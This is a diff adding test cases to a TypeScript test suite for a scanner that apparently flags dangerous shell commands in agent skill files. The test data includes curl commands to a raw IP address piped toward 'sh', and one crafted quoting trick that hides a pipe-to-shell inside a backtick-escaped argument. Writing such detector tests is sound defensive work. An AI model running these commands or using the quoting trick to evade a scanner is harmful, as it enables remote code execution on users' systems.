@@ -1204,6 +1204,10 @@ describe('a `|`, `)`, `;` or `&` inside quotes ends no command (the shell reads 
     // The API call the exception is for stays quiet, as a command's start after $(, if or NAME=.
     expect(rules(`R=$(curl -s http://203.0.113.5/api -d '{"cmd": "x | sh"}') && echo ok`)).toEqual(['warn download.raw-ip']);
     expect(rules(`if TOKEN=abc curl -s http://203.0.113.5/api -d '{"cmd": "x | sh"}' | jq -e .ok; then echo ok; fi`)).toEqual(['warn download.raw-ip']);
+    // In a document's inline code span the backticks are markdown's; one inside the download is not.
+    const inline = (line: string) => rulesOf(scanOne('SKILL.md', `---\nname: api\ndescription: Calls the API.\n---\nCall it: ${line}\n`).findings, 'block');
+    expect(inline("`curl -s http://203.0.113.5/api -d '{\"cmd\": \"x | sh\"}' | jq .`")).toEqual([]);
+    expect(inline("`curl -s http://203.0.113.5/api -A \\`\"a | sh #\" | jq .`")).toContain('download.raw-ip-exec');
   });
   it("an operator inside a substitution that is the download's argument ends nothing either (`curl -A \"$(uname | tr a b)\" URL | sh`)", () => {
     for (const body of [
